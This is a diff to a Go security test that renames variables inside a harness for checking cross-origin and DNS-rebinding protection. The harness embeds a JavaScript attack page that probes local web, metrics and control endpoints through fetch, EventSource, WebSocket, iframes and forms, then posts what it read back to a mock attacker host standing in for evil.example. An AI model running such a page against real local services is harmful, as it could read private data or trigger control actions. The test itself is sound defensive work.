@@ -42,14 +42,14 @@ print("stop was called " .. calls .. " times")
 // attackPage tries all that a page may try with the addresses that stand in place of AIMS, and reports to the server that it came from what it could read.
 const attackPage = `<!doctype html><meta charset="utf-8"><title>attack</title><body><script>
 const aims = AIMS;
-const told = [];
+const results = [];
 async function attempt(what, read) {
   let timer;
   const late = new Promise((_, no) => { timer = setTimeout(() => no("no outcome"), 20000); });
   try {
-    told.push({ what: what, read: String(await Promise.race([read(), late])), error: "" });
+    results.push({ what: what, read: String(await Promise.race([read(), late])), error: "" });
   } catch (e) {
-    told.push({ what: what, read: "", error: String(e) });
+    results.push({ what: what, read: "", error: String(e) });
   }
   clearTimeout(timer);
 }
@@ -62,7 +62,7 @@ async function fetched(url, options) { // the first bytes: some answers have no 
   reader.cancel();
   return got.value ? new TextDecoder().decode(got.value) : "";
 }
-function heard(url) { // the first event
+function firstEvent(url) { // the first event
   return new Promise((yes, no) => {
     const events = new EventSource(url);
     events.onmessage = (e) => { events.close(); yes(e.data); };
@@ -115,7 +115,7 @@ async function attack() {
   for (const url of aims.pages) {
     await attempt("fetch cors " + url, () => fetched(url, { mode: "cors" }));
     await attempt("fetch no-cors " + url, () => fetched(url, { mode: "no-cors" }));
-    if (url.endsWith("/events")) await attempt("EventSource " + url, () => heard(url));
+    if (url.endsWith("/events")) await attempt("EventSource " + url, () => firstEvent(url));
     if (aims.reads) continue;
     await attempt("WebSocket " + url, () => connected(url));
     await attempt("iframe " + url, () => framed((frame) => { frame.src = url; }));
@@ -131,7 +131,7 @@ async function attack() {
       attempt("form " + JSON.stringify(text), () => submitted(aims.control, text)),
     ];
   }));
-  await fetch("/told", { method: "POST", body: JSON.stringify(told) });
+  await fetch("/results", { method: "POST", body: JSON.stringify(results) });
 }
 attack();
 </script>`
@@ -152,10 +152,10 @@ type attempt struct{ What, Read, Error string }
 
 // attacker serves attackPage, and below /web and /exporter what two listeners answer, to the name that the browser knows the attacker by: so does a
 // name that leads to the attacker first and to the listeners later (DNS rebinding).
-func attacker(t *testing.T, web, metrics string, a func(host string) aims) (address string, told chan []attempt) {
+func attacker(t *testing.T, web, metrics string, a func(host string) aims) (address string, found chan []attempt) {
 	t.Helper()
 	mux := http.NewServeMux()
-	told = make(chan []attempt, 1)
+	found = make(chan []attempt, 1)
 	for path, to := range map[string]string{"/web": web, "/exporter": metrics} {
 		proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: to}) // it leaves the Host header as it is
 		proxy.FlushInterval = -1
@@ -168,28 +168,28 @@ func attacker(t *testing.T, web, metrics string, a func(host string) aims) (addr
 		}
 		_, _ = io.WriteString(w, strings.Replace(attackPage, "AIMS", string(text), 1))
 	})
-	mux.HandleFunc("POST /told", func(_ http.ResponseWriter, r *http.Request) {
+	mux.HandleFunc("POST /results", func(_ http.ResponseWriter, r *http.Request) {
 		var all []attempt
 		if err := json.NewDecoder(r.Body).Decode(&all); err != nil {
 			t.Error(err)
 		}
-		told <- all
+		found <- all
 	})
 	server := httptest.NewServer(mux)
 	t.Cleanup(server.Close)
-	return server.Listener.Addr().String(), told
+	return server.Listener.Addr().String(), found
 }
 
 // tap passes on what a browser sends, and keeps it: the test can tell that something was sent. It keeps the answers, too, and does not pass them on:
 // at an answer that is not HTTP the browser would end the connection, perhaps before the message is there.
-func tap(t *testing.T, to string) (address string, came, said *harness.Buffer) {
+func tap(t *testing.T, to string) (address string, came, output *harness.Buffer) {
 	t.Helper()
 	l, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
 	}
 	t.Cleanup(func() { _ = l.Close() })
-	came, said = new(harness.Buffer), new(harness.Buffer)
+	came, output = new(harness.Buffer), new(harness.Buffer)
 	go func() {
 		for {
 			c, err := l.Accept()
@@ -206,16 +206,16 @@ func tap(t *testing.T, to string) (address string, came, said *harness.Buffer) {
 					_, _ = io.Copy(io.MultiWriter(came, there), c)
 					_ = there.(*net.TCPConn).CloseWrite()
 				}()
-				_, _ = io.Copy(said, there)
+				_, _ = io.Copy(output, there)
 				_ = there.Close()
 			}()
 		}
 	}()
-	return l.Addr().String(), came, said
+	return l.Addr().String(), came, output
 }
 
 // browse opens a page in headless Chromium until what the page reports has come.
-func browse(t *testing.T, page string, told chan []attempt) []attempt {
+func browse(t *testing.T, page string, found chan []attempt) []attempt {
 	t.Helper()
 	cmd := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir="+t.TempDir(),
 		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP localhost 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", page)
@@ -238,7 +238,7 @@ func browse(t *testing.T, page string, told chan []attempt) []attempt {
 		}
 	}()
 	select {
-	case all := <-told:
+	case all := <-found:
 		return all
 	case <-ended:
 		t.Fatalf("chromium ended: %v\n%s", cmd.ProcessState, errs.String())
@@ -298,7 +298,7 @@ func TestOtherOrigin(t *testing.T) {
 		_, body := status(t, "http://"+web+"/", web, nil)
 		return bytes.Contains(body, []byte("daqiri"))
 	})
-	tapped, came, said := tap(t, ctl)
+	tapped, came, output := tap(t, ctl)
 	paths := func(web, metrics string) []string {
 		return []string{web + "/", web + "/events", metrics + "/", metrics + "/metrics"}
 	}
@@ -313,7 +313,7 @@ func TestOtherOrigin(t *testing.T) {
 		{"the same origin", "127.0.0.1", true, true},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			address, told := attacker(t, web, metrics, func(host string) aims {
+			address, found := attacker(t, web, metrics, func(host string) aims {
 				pages := paths("http://"+web, "http://"+metrics)
 				if c.own {
 					pages = paths("http://"+host+"/web", "http://"+host+"/exporter")
@@ -325,7 +325,7 @@ func TestOtherOrigin(t *testing.T) {
 				t.Fatal(err)
 			}
 			before := strings.Count(came.String(), "POST / HTTP/1.1\r\n")
-			all := browse(t, "http://"+net.JoinHostPort(c.host, port)+"/attack", told)
+			all := browse(t, "http://"+net.JoinHostPort(c.host, port)+"/attack", found)
 			posts := strings.Count(came.String(), "POST / HTTP/1.1\r\n") - before
 			tries := 4*7 + 1
 			if c.reads {
@@ -342,8 +342,8 @@ func TestOtherOrigin(t *testing.T) {
 					t.Errorf("%s: it read %.80q, error %q", a.What, a.Read, a.Error)
 				}
 			}
-			if calls := control(t, ctl, "calls"); calls != `{"ok":true,"reply":0}` || said.String() != "" {
-				t.Errorf("calls of stop: %s; the control address says %.200q to a page", calls, said.String())
+			if calls := control(t, ctl, "calls"); calls != `{"ok":true,"reply":0}` || output.String() != "" {
+				t.Errorf("calls of stop: %s; the control address says %.200q to a page", calls, output.String())
 			}
 		})
 	}
@@ -372,11 +372,11 @@ func TestOtherOrigin(t *testing.T) {
 		}
 	}
 	// Who has the token calls what the pages tried to call.
-	if said := control(t, ctl, "stop"); said != `{"ok":true,"reply":1}` {
-		t.Error(said)
+	if output := control(t, ctl, "stop"); output != `{"ok":true,"reply":1}` {
+		t.Error(output)
 	}
-	if said := control(t, ctl, "end"); said != `{"ok":true,"reply":"bye"}` {
-		t.Error(said)
+	if output := control(t, ctl, "end"); output != `{"ok":true,"reply":"bye"}` {
+		t.Error(output)
 	}
 	if err := cmd.Wait(); err != nil || !strings.Contains(out.String(), "stop was called 1 times\n") {
 		t.Errorf("%v\n%s", err, out.String())
